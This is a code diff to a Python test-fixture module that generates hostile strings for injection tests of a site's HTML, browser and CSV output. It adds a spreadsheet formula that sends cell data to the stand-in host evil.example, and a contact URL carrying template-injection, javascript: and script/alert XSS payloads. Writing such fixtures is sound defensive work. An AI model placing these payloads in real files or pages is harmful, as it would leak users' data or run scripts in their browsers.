@@ -6,11 +6,13 @@ Shared by the HTML test (tests/test_injection.py) and the browser test
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 from typing import Any
 
 from benchmarks.generate import TextMaker, write_synthetic_data
-from macros.kb.kinds import KINDS
+from macros.kb.kinds import KINDS, folder_of
+from macros.kb.model import System
 from macros.kb.schemas import load_schema
 
 EVIL_HOST = "evil.example"
@@ -42,6 +44,14 @@ HOSTILE = (
     "&lt;b&gt;double&lt;/b&gt; &amp;",
     ASTRAL_PAYLOAD,
     "𠮷野家の𩸽 👩🏽‍💻",
+    # A spreadsheet formula: a CSV cell starting with it must not run (api/v1/*.csv).
+    f'=HYPERLINK("https://{EVIL_HOST}/?x="&A1,"click")',
+)
+
+# A system's contact that its schema accepts ({ } [ ] only %-escaped in an address), holding what would be
+# live in a template, Markdown or an attribute once unescaped: shown and linked as written.
+HOSTILE_CONTACT = (
+    "https://example.com/teams/%7B%7B7*7%7D%7D?q=(javascript:alert(1))&x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E#*7*7*"
 )
 
 
@@ -112,5 +122,10 @@ def hostile_text() -> TextMaker:
 
 
 def write_hostile_data(dest: Path) -> Path:
-    """A valid data/ folder whose every text field holds every hostile string."""
-    return write_synthetic_data(dest, seed=11, capabilities=4, characteristics=3, case_studies=3, text=hostile_text())
+    """A valid data/ folder whose every text field holds every hostile string, and each system's contact HOSTILE_CONTACT."""
+    data = write_synthetic_data(dest, seed=11, capabilities=4, characteristics=3, case_studies=3, text=hostile_text())
+    for path in sorted((data / folder_of(System)).glob("*.yml")):
+        # The generator writes `contact: <address>` on a line of its own.
+        text = path.read_text(encoding="utf-8")
+        path.write_text(re.sub(r"^contact: .*$", f"contact: '{HOSTILE_CONTACT}'", text, flags=re.M), encoding="utf-8")
+    return data
